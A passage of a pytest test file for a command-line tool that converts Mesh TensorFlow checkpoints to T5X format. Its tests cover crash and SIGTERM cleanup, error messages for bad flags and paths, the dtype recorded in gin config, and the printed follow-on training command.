  """Killed (SIGKILL) half-way: no checkpoint_<n> dir, no msgpack `checkpoint` file."""
  _, model_dir = tiny_run("span_corruption")
  out = tmp_path / "out"
  code = (
      "import os, pathlib, signal\n"
      "from code_t5.convert import t5x\n"
      "write, calls = t5x.write_zarr, []\n"
      "def dying(*args):\n"
      "  calls.append(1)\n"
      "  if len(calls) == 20:\n"
      "    os.kill(os.getpid(), signal.SIGKILL)\n"
      "  return write(*args)\n"
      "t5x.write_zarr = dying\n"
      f"t5x.convert(pathlib.Path({str(model_dir)!r}), pathlib.Path({str(out)!r}))\n")
  result = subprocess.run([sys.executable, "-c", code], cwd=REPO, capture_output=True,
                          env=dict(os.environ, TF_CPP_MIN_LOG_LEVEL="3"), check=False)
  assert result.returncode == -signal.SIGKILL, result.stderr[-2000:]
  leftovers = list(out.iterdir())
  assert leftovers and all(p.name.startswith(".") for p in leftovers)
  assert not list(out.rglob("checkpoint"))
  # The next convert removes what the killed one left (its process is gone).
  t5x.convert(model_dir, out)
  assert [p.name for p in out.iterdir()] == ["checkpoint_4"]


def test_cli_convert_prints_summary(tiny_run, tmp_path):
  _, model_dir = tiny_run("shared-prefix_lm")
  result = subprocess.run([sys.executable, "-m", "code_t5.cli", "convert", str(model_dir),
                           str(tmp_path / "out")], cwd=REPO, capture_output=True, text=True,
                          env=dict(os.environ, TF_CPP_MIN_LOG_LEVEL="3"), check=False)
  assert result.returncode == 0, result.stderr[-2000:]
  for line in ("shared encoder-decoder", "copied into T5X's encoder AND decoder",
               "tensors read", "leaves written", "MB/s"):
    assert line in result.stdout, result.stdout
  assert (tmp_path / "out" / "checkpoint_4" / "checkpoint").is_file()
  # How to go on in T5X, with this checkpoint's paths and steps (docs/t5x.md's command): the
  # gin files it names are there, and TRAIN_STEPS counts the converted step.
  checkpoint = (tmp_path / "out" / "checkpoint_4").resolve()
  command = result.stdout[result.stdout.index("To train it further in T5X"):]
  assert f"CK={checkpoint}\n" in command
  for name in ("model.gin", "task.gin"):
    assert f"$CK/{name}" in command and (checkpoint / name).is_file()
  assert f"--gin.MODEL_DIR=\"'{tmp_path.resolve() / 'out-finetuned'}'\"" in command
  assert "--gin.TRAIN_STEPS=1004\n" in command
  assert "pip install t5" in command  # its prefix_lm objective uses t5's preprocessors


@pytest.mark.parametrize("flags,message", [
    (["--t5x-src", "{tmp}", "--t5x-python", "no-such-python"],
     "--t5x-python no-such-python: no such program, or not one that may run (give the python "
     "of the venv T5X's requirements are installed in)"),
    (["--t5x-src", "{tmp}", "--t5x-python", sys.executable],
     "--t5x-src {tmp} holds no t5x/ folder: give a T5X checkout"),
])
def test_t5x_parity_names_a_bad_t5x_flag_in_one_line_before_its_work(flags, message, tmp_path):
  """Both ended in a traceback after ~20 s of the Mesh TF side (helper-44's audit)."""
  result = subprocess.run(
      [sys.executable, str(pathlib.Path(__file__).resolve().parent.parent / "scripts"
                           / "t5x_parity.py"),
       str(test_utils.PRETRAINED), *[flag.format(tmp=tmp_path) for flag in flags]],
      capture_output=True, text=True, check=False)
  assert result.returncode == 2
  assert result.stderr == f"t5x_parity.py: {message.format(tmp=tmp_path)}\n"
  assert list(tmp_path.iterdir()) == []


def test_t5x_parity_stopped_leaves_neither_its_t5x_side_nor_its_folder(tmp_path):
  """A SIGTERM left the T5X side running and the temporary folder in $TMPDIR (helper-54's
  audit). The stand-in T5X python says its pid and sleeps."""
  (tmp_path / "src" / "t5x").mkdir(parents=True)
  python = tmp_path / "t5x-python"
  python.write_text(f"#!/bin/sh\necho $$ > {tmp_path / 'pid'}\nexec sleep 120\n")
  python.chmod(0o755)
  temporary = tmp_path / "tmp"
  temporary.mkdir()
  job = subprocess.Popen(
      [sys.executable, str(pathlib.Path(__file__).resolve().parent.parent / "scripts"
                           / "t5x_parity.py"), str(test_utils.PRETRAINED), "--t5x-src",
       str(tmp_path / "src"), "--t5x-python", str(python)],
      env=dict(os.environ, TMPDIR=str(temporary), TF_CPP_MIN_LOG_LEVEL="3"),
      stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
  try:
    test_utils.wait_for(lambda: (tmp_path / "pid").exists() or job.poll() is not None,
                        "the T5X side", 300)
    assert job.poll() is None
    job.terminate()
    assert job.wait(60) == 128 + signal.SIGTERM
  finally:
    job.kill()
    job.wait()
  pid = int((tmp_path / "pid").read_text())
  test_utils.wait_for(lambda: not processes.pid_alive(pid), "the T5X side to end", 10)
  assert list(temporary.iterdir()) == []


def test_a_source_that_is_a_file_or_missing_is_named_as_such(tmp_path, capsys):
  """A file was told "no such dir" (helper-44's audit)."""
  (tmp_path / "notes.txt").write_text("x")
  for source, what in (("notes.txt", "a file"), ("missing", "no such file or folder")):
    assert cli.main(["convert", str(tmp_path / source), str(tmp_path / "out")]) == 2
    assert capsys.readouterr().err == (
        f"code-t5 convert: {tmp_path / source} is neither a Mesh TF model dir nor a checkpoint "
        f"prefix ({what}, and no {tmp_path / source}.index)\n")
  assert [p.name for p in tmp_path.iterdir()] == ["notes.txt"]


def test_the_model_dir_itself_as_out_is_refused(tiny_run, tmp_path, capsys):
  _, model_dir = tiny_run("prefix_lm")
  before = sorted(p.name for p in model_dir.iterdir())
  assert cli.main(["convert", str(model_dir), str(model_dir)]) == 2
  assert capsys.readouterr().err == (f"code-t5 convert: OUT {model_dir} is the model dir being "
                                     "converted: give another folder, which gets "
                                     "checkpoint_<step>/\n")
  assert sorted(p.name for p in model_dir.iterdir()) == before


def test_model_gin_computes_in_the_activation_dtype_the_model_trained_in(tmp_path):
  """A TPU run's (bfloat16) model.gin said Mesh TF computed in float32 (helper-44's audit)."""
  prefix, shapes = _shipped_with_bindings(
      tmp_path, "get_variable_dtype.activation_dtype = 'bfloat16'\n")
  for folder, dtype in ((tmp_path, "bfloat16"), (test_utils.PRETRAINED, "float32")):
    operative = operative_config.OperativeConfig.of_model_dir(folder)
    model = checkpoints.plan(shapes, prefix, True, operative).model
    text = t5x.gin_text(model, prefix, test_utils.PRETRAINED_STEP, operative, True)
    assert (f"  # Mesh TF computed in {dtype} (get_variable_dtype.activation_dtype).\n"
            f"  dtype = '{dtype}'\n") in text


def test_a_tf2_object_checkpoint_is_named_as_such(tmp_path, capsys):
  """It was refused as "variable _CHECKPOINTABLE_OBJECT_GRAPH has dtype 7, not one a weight is
  stored in" (helper-44's audit)."""
  prefix = tf.train.Checkpoint(v=tf.Variable([1.0, 2.0])).write(str(tmp_path / "model.ckpt-3"))
  assert cli.main(["convert", prefix, str(tmp_path / "out")]) == 2
  err = capsys.readouterr().err
  assert err.count("\n") == 1 and ("an object-based checkpoint (TF2's tf.train.Checkpoint or "
                                   "Keras): Mesh TF writes name-based ones") in err, err
  assert not (tmp_path / "out").exists()
